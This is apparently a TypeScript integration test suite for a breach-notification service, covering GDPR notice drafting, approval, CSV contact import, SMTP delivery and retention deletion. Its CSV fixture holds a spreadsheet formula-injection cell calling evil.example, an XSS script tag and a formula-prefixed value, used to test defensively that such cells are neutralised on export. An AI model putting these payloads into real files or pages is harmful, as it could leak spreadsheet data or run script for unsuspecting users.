// Notices (issue 15, item 5) over HTTP with a real SMTP server: drafts for the authority and the
// people affected are written from the breach record, edited, and approved by the legal role;
// the people's contact list is imported as CSV (hostile cells stored and exported inert, every
// read audited, only the legal role sees it, deleted by the retention rule); a high-risk decision
// produces the individuals' notice, which goes out only once approved and while the high risk
// stands, one e-mail each through the outbox, with each person's delivery status.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DAY, FakeClock } from '../../src/server/clock.ts';
import { createSmtpMailer } from '../../src/server/integrations/smtp-mailer.ts';
import type { OutboxWorker } from '../../src/server/workers/outbox-worker.ts';
import { createTokenFor } from '../helpers/auth.ts';
import { recordDeterminations } from '../helpers/breach.ts';
import { startSmtpReceiver, workerFor, type SmtpReceiver } from '../helpers/delivery.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';

type Who = { userId: string; headers: Record<string, string> };
let t: TestApp;
let smtp: SmtpReceiver;
let worker: OutboxWorker;
let legal: Who, responder: Who, admin: Who;
let path = '';

// Friday 4 December 2026, 11:00 UTC.
const clock = new FakeClock('2026-12-04T11:00:00Z');

const call = (
  who: Who,
  method: 'GET' | 'POST' | 'PATCH',
  url: string,
  payload?: object | string | Buffer,
  type?: string,
) =>
  t.app.inject({
    method,
    url,
    headers: { ...who.headers, ...(type ? { 'content-type': type } : {}) },
    ...(payload !== undefined ? { payload } : {}),
  });

type Notice = { id: string; audience: string; stageId: string; status: string; text: string };
const noticesOf = async () => (await call(legal, 'GET', path)).json().details.notices as Notice[];

const HOSTILE_CSV = Buffer.concat([
  Buffer.from(
    [
      'name,email,customer number',
      'Ada Lovelace,ada@example.org,C-1',
      '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",formula@example.org,C-2',
      '<script>alert(1)</script>,script@example.org,"+1-555"',
      'No Address,,C-4',
      'Ada Again,ADA@example.org,C-5',
      'Bounce Person,bounce@example.org,C-6',
      'Broken ',
    ].join('\r\n'),
  ),
  Buffer.from([0xff, 0xfe]),
  Buffer.from(',broken@example.org,C-7\r\n'),
]);

beforeAll(async () => {
  t = await createTestApp({ clock });
  smtp = await startSmtpReceiver(0, (address) => address.startsWith('bounce@'));
  worker = workerFor(
    t,
    createSmtpMailer({
      host: '127.0.0.1',
      port: smtp.port,
      security: 'none',
      from: 'Stopline <dpo@example.org>',
      timeoutMs: 2000,
    }),
    { maxAttempts: 1 },
  );
  [legal, responder, admin] = await Promise.all([
    createTokenFor(t, 'legal'),
    createTokenFor(t, 'responder'),
    createTokenFor(t, 'admin'),
  ]);
  const created = await call(responder, 'POST', '/api/v1/incidents', {
    title: 'Newsletter list exported by a former contractor',
  });
  path = `/api/v1/incidents/${created.json().key}/breach`;
  const opened = await call(legal, 'POST', path, {
    status: 'confirmed',
    nature: ['confidentiality'],
    dataCategories: [{ name: 'names and e-mail addresses', special: false }],
    people: { count: 1200, estimate: true },
    records: { count: 1200, estimate: false },
    consequences: 'Targeted phishing e-mails',
    measuresTaken: 'The contractor account was closed',
    measuresProposed: 'Be wary of e-mails asking for your password',
    contactPoint: 'dpo@example.org',
  });
  expect(opened.statusCode).toBe(201);
  await recordDeterminations(
    t,
    created.json().key,
    legal.headers,
    [['became_aware', '2026-12-04T10:00:00Z'], ['personal_data_involved']],
    'The export held the newsletter list',
  );
});
afterAll(async () => {
  await smtp.stop();
  await t.close();
});

describe('a draft for the authority is written from the record', () => {
  let id = '';
  it('holds the facts Art. 33(3) asks for, and the stage content as a checklist', async () => {
    const res = await call(legal, 'POST', `${path}/notices`, {
      regimeId: 'gdpr',
      stageId: 'authority',
    });
    expect(res.statusCode).toBe(201);
    const notice = res.json().details.notices[0];
    id = notice.id;
    expect(notice).toMatchObject({ audience: 'authority', status: 'draft', sha256: null });
    for (const fact of [
      'names and e-mail addresses',
      'about 1,200',
      'dpo@example.org',
      'Targeted phishing e-mails',
      'The contractor account was closed',
      'The likely consequences of the breach',
    ]) {
      expect(notice.text).toContain(fact);
    }
  });

  it('someone without the legal permission may not draft (403), and sees no notices', async () => {
    const res = await call(responder, 'POST', `${path}/notices`, {
      regimeId: 'gdpr',
      stageId: 'authority',
    });
    expect(res.statusCode).toBe(403);
    expect((await call(responder, 'GET', path)).json().details).toBeNull();
  });

  it('an unknown stage is a 400 naming the field', async () => {
    const res = await call(legal, 'POST', `${path}/notices`, { regimeId: 'gdpr', stageId: 'x' });
    expect(res.statusCode).toBe(400);
    expect(res.json().errors[0].field).toBe('stageId');
  });

  it('edited, approved (frozen and hashed), then refused further edits', async () => {
    const edited = await call(legal, 'PATCH', `${path}/notices/${id}`, {
      subject: 'Breach notification',
      text: 'To the authority: <b>1,200</b> newsletter subscribers.',
    });
    expect(edited.statusCode).toBe(200);
    const approved = await call(legal, 'POST', `${path}/notices/${id}/approval`);
    expect(approved.statusCode).toBe(200);
    const notice = approved.json().details.notices[0];
    expect(notice.status).toBe('approved');
    expect(notice.sha256).toMatch(/^[0-9a-f]{64}$/);
    const again = await call(legal, 'PATCH', `${path}/notices/${id}`, {
      subject: 'x',
      text: 'changed after approval',
    });
    expect(again.statusCode).toBe(422);
    // It goes through the authority's portal: sending it from Stopline is refused.
    const send = await call(legal, 'POST', `${path}/notices/${id}/send`, {});
    expect(send.statusCode).toBe(422);
  });
});

describe("the people's contact list is personal data", () => {
  it('is imported from CSV: hostile cells kept, bad lines refused with reasons, broken bytes named', async () => {
    const res = await call(legal, 'POST', `${path}/contacts`, HOSTILE_CSV, 'text/csv');
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({
      imported: 5,
      header: ['name', 'email', 'customer number'],
      refused: [
        { line: 5, reason: expect.stringContaining('not an address') },
        { line: 6, reason: expect.stringContaining('already on an earlier line') },
      ],
      brokenEncodingLines: [8],
    });
  });

  it('a file without an email column is a 400 naming the file', async () => {
    const res = await call(legal, 'POST', `${path}/contacts`, 'name\nAda\n', 'text/csv');
    expect(res.statusCode).toBe(400);
    expect(res.json().errors[0].field).toBe('file');
  });

  it('an unclosed quote refuses the file, naming the line, and keeps the list', async () => {
    // Read from the table: a read through the API is itself audited (the last test counts them).
    const kept = () =>
      t.container.db
        .selectFrom('breach_contacts')
        .select(['email', 'name'])
        .orderBy('email')
        .execute();
    const before = await kept();
    expect(before.length).toBe(5);
    const unclosed =
      'name,email\nAda,ada@example.org\n"Grace,grace@example.org\nLinus,linus@example.org\n';
    const res = await call(legal, 'POST', `${path}/contacts`, unclosed, 'text/csv');
    expect(res.statusCode).toBe(400);
    expect(res.json().errors[0]).toMatchObject({
      field: 'file',
      message: expect.stringMatching(/^line \d+: .*[Qq]uote/),
    });
    expect(await kept()).toEqual(before);
  });

  it('only the legal role and admins read it; a responder gets 403 and may not import', async () => {
    expect((await call(responder, 'GET', `${path}/contacts`)).statusCode).toBe(403);
    expect(
      (await call(responder, 'POST', `${path}/contacts`, HOSTILE_CSV, 'text/csv')).statusCode,
    ).toBe(403);
    expect((await call(admin, 'GET', `${path}/contacts`)).statusCode).toBe(200);
  });

  it('is exported with formula cells made inert, and every read is on the audit trail', async () => {
    const res = await call(legal, 'GET', `${path}/contacts?format=csv`);
    expect(res.statusCode).toBe(200);
    const lines = res.body.split('\r\n');
    expect(lines[0]).toBe('line,name,email,customer number');
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(res.body).toContain("'+1-555");
    expect(res.body).toContain('<script>alert(1)</script>');
    const reads = await t.container.db
      .selectFrom('audit_log')
      .select(['actor_id', 'action'])
      .where('action', '=', 'personal_data.read')
      .where('target_type', '=', 'breach')
      .execute();
    expect(reads.map((r) => r.actor_id).sort()).toEqual([admin.userId, legal.userId].sort());
  });
});

describe('a high-risk decision produces the notice to the people affected', () => {
  let id = '';
  const peopleMail = () =>
    t.container.db
      .selectFrom('outbox')
      .select('recipient')
      .where('idempotency_key', 'like', 'breach_notice:%')
      .execute();

  it('the determination drafts it in plain language, from the record', async () => {
    const res = await call(legal, 'POST', `${path}/determinations`, {
      kind: 'high_risk',
      value: true,
      rationale: 'Phishing with a trusted sender is likely',
    });
    expect(res.statusCode).toBe(201);
    const notice = (await noticesOf()).find((n) => n.audience === 'individuals')!;
    id = notice.id;
    expect(notice).toMatchObject({ stageId: 'individuals', status: 'draft' });
    expect(notice.text).toContain('Dear {name},');
    expect(notice.text).toContain('Be wary of e-mails asking for your password');
  });

  it('nothing leaves before the legal role approves it', async () => {
    const res = await call(legal, 'POST', `${path}/notices/${id}/send`, {});
    expect(res.statusCode).toBe(422);
    expect(res.json().detail).toContain('not approved');
    expect(await peopleMail()).toEqual([]);
  });

  it('a draft with gaps cannot be approved (400 naming text)', async () => {
    const gap = await call(legal, 'PATCH', `${path}/notices/${id}`, {
      subject: 'About your newsletter subscription',
      text: 'Dear {name}, [to be completed]',
    });
    expect(gap.statusCode).toBe(200);
    const res = await call(legal, 'POST', `${path}/notices/${id}/approval`);
    expect(res.statusCode).toBe(400);
    expect(res.json().errors[0].field).toBe('text');
  });

  it('approved, it still waits while the high risk is withdrawn', async () => {
    await call(legal, 'PATCH', `${path}/notices/${id}`, {
      subject: 'About your newsletter subscription',
      text: 'Dear {name},\n\nYour name and e-mail address were copied. Be wary of e-mails asking for your password. Questions: dpo@example.org',
    });
    expect((await call(legal, 'POST', `${path}/notices/${id}/approval`)).statusCode).toBe(200);
    await call(legal, 'POST', `${path}/determinations`, {
      kind: 'high_risk',
      value: false,
      rationale: 'Reassessed: the list was recovered before use',
    });
    const res = await call(legal, 'POST', `${path}/notices/${id}/send`, {});
    expect(res.statusCode).toBe(422);
    expect(res.json().detail).toContain('high_risk');
    expect(await peopleMail()).toEqual([]);
  });

  it('sent once the high risk stands: one e-mail each through a real SMTP server', async () => {
    await call(legal, 'POST', `${path}/determinations`, {
      kind: 'high_risk',
      value: true,
      rationale: 'Copies of the list were found on a forum',
    });
    t.clock.advance(60_000);
    const res = await call(legal, 'POST', `${path}/notices/${id}/send`, {});
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body.details.notices.find((n: Notice) => n.id === id)).toMatchObject({
      status: 'sent',
      recipients: 5,
    });
    // The batch is the stage's submission: its clock is met, its copy the approved text.
    const stage = body.regimes[0].stages.find(
      (s: { stageId: string }) => s.stageId === 'individuals',
    );
    expect(stage.status).toBe('submitted');
    expect(body.details.submissions.at(-1)).toMatchObject({
      stageId: 'individuals',
      recipient: '5 people by e-mail',
    });
    // Sending twice is refused.
    expect((await call(legal, 'POST', `${path}/notices/${id}/send`, {})).statusCode).toBe(422);

    await worker.deliverDue(t.clock.now());
    await smtp.waitFor(4);
    // (The legal role's own notices of the breach go through the same outbox; left out here.)
    const toPeople = smtp.received.filter(
      (m) => m.subject === 'About your newsletter subscription',
    );
    const got = toPeople.map((m) => ({
      to: m.to && !Array.isArray(m.to) ? m.to.value[0]!.address : '',
      subject: m.subject,
      text: m.text ?? '',
    }));
    expect(got.map((m) => m.to).sort()).toEqual([
      'ada@example.org',
      'broken@example.org',
      'formula@example.org',
      'script@example.org',
    ]);
    const ada = got.find((m) => m.to === 'ada@example.org')!;
    expect(ada.subject).toBe('About your newsletter subscription');
    expect(ada.text).toContain('Dear Ada Lovelace,');
  });

  it("each person's delivery status: delivered, or dead with the server's answer", async () => {
    const res = await call(legal, 'GET', `${path}/notices/${id}/deliveries`);
    expect(res.statusCode).toBe(200);
    const byEmail = Object.fromEntries(
      (res.json().items as { email: string; status: string; lastError: string | null }[]).map(
        (d) => [d.email, d],
      ),
    );
    expect(byEmail['ada@example.org']).toMatchObject({ status: 'delivered' });
    expect(byEmail['script@example.org']).toMatchObject({ status: 'delivered' });
    expect(byEmail['bounce@example.org']).toMatchObject({ status: 'dead' });
    expect(byEmail['bounce@example.org']!.lastError).toContain('refused');
    expect((await call(responder, 'GET', `${path}/notices/${id}/deliveries`)).statusCode).toBe(403);
  });
});

describe('the retention rule removes the contact list', () => {
  it('kept until the policy’s days have passed since the notice went out, then deleted with the addresses in its e-mails', async () => {
    const { breach } = t.container.services;
    t.clock.advance(29 * DAY);
    expect(await breach.sweepContacts()).toBe(0);
    t.clock.advance(2 * DAY);
    expect(await breach.sweepContacts()).toBe(5);
    const res = await call(legal, 'GET', `${path}/contacts`);
    expect(res.json().items).toEqual([]);
    const removed = await t.container.db
      .selectFrom('audit_log')
      .select('detail_json')
      .where('action', '=', 'breach.contacts_removed')
      .execute();
    expect(removed).toHaveLength(1);
    // The e-mails delivered or given up keep their status, not the people's addresses or names.
    const mail = await t.container.db
      .selectFrom('outbox')
      .select(['recipient', 'body_text', 'last_error', 'status'])
      .where('idempotency_key', 'like', 'breach_notice:%')
      .execute();
    expect(mail.map((m) => m.status).sort()).toEqual([
      'dead',
      'delivered',
      'delivered',
      'delivered',
      'delivered',
    ]);
    expect(JSON.stringify(mail)).not.toMatch(/@example\.org|Ada Lovelace|refused/);
    expect(mail.every((m) => m.recipient === '(removed by the retention rule)')).toBe(true);
  });
});
